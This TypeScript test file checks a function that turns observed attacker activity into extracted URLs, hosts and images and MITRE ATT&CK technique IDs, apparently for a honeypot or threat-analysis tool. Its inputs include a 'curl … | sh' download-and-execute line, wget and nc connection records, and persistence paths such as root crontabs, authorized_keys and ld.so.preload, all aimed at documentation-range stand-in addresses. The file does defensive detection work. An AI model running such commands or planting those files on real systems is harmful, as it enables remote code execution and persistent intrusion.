import assert from 'node:assert/strict';
import { test } from 'node:test';
import { normOf } from './norm.ts';

const nothing = Buffer.alloc(0);

test('texts, commands and what the emulation saw come together, each value once', () => {
  const { norm, attack } = normOf(
    {
      texts: ['curl -s http://192.0.2.1/a | sh'],
      commands: ['curl -s http://192.0.2.1/a'],
      images: ['alpine'],
      notes: [
        { kind: 'request', tool: 'wget', url: 'http://192.0.2.2/b' },
        { kind: 'connect', tool: 'nc', host: '192.0.2.3', port: 80 },
        { kind: 'image', tool: 'docker', reference: 'evil/x' },
      ],
    },
    nothing,
  );
  assert.deepEqual(norm, {
    urls: ['http://192.0.2.1/a', 'http://192.0.2.2/b'],
    hosts: ['192.0.2.1', '192.0.2.2', '192.0.2.3'],
    images: ['alpine', 'evil/x'],
    wallets: [],
    commands: ['curl -s http://192.0.2.1/a', 'sh'],
  });
  assert.deepEqual(attack, ['T1059.004', 'T1105']);
});

test('a registry of somebody’s own is a host', () => {
  const hosts = (image: string) => normOf({ texts: [], images: [image] }, nothing).norm.hosts;
  assert.deepEqual(hosts('192.0.2.5:5000/x'), ['192.0.2.5']);
  assert.deepEqual(hosts('quay.io/x/y'), []);
});

test('packages of the distribution come from nobody’s server', () => {
  const url = 'http://deb.debian.org/debian/pool/main/c/cron/cron_3.0_amd64.deb';
  const { urls, hosts } = normOf({ texts: [], notes: [{ kind: 'request', tool: 'apt', url }] }, nothing).norm;
  assert.deepEqual([urls, hosts], [[], []]);
});

test('what came is decoded where no texts are told', () => {
  assert.deepEqual(normOf({}, Buffer.from('wget 192.0.2.4/x')).norm.hosts, ['192.0.2.4']);
});

test('files by which somebody stays are techniques, whoever wrote them', () => {
  const attack = (...names: string[]) =>
    normOf({ texts: [], artefacts: names.map((name) => ({ name, content: nothing })) }, nothing).attack;
  assert.deepEqual(attack('/var/spool/cron/crontabs/root'), ['T1053.003']);
  assert.deepEqual(attack('/root/.ssh/authorized_keys'), ['T1098.004']);
  assert.deepEqual(attack('/etc/ld.so.preload', '/etc/systemd/system/x.service'), ['T1543.002', 'T1574.006']);
  assert.deepEqual(attack('/root/.bash_history', '/tmp/.x', '/var/log/wtmp'), []);
  const note = { kind: 'file', path: '/mnt/etc/cron.d/zzh' } as const;
  assert.deepEqual(normOf({ texts: [], notes: [note] }, nothing).attack, ['T1053.003']);
});
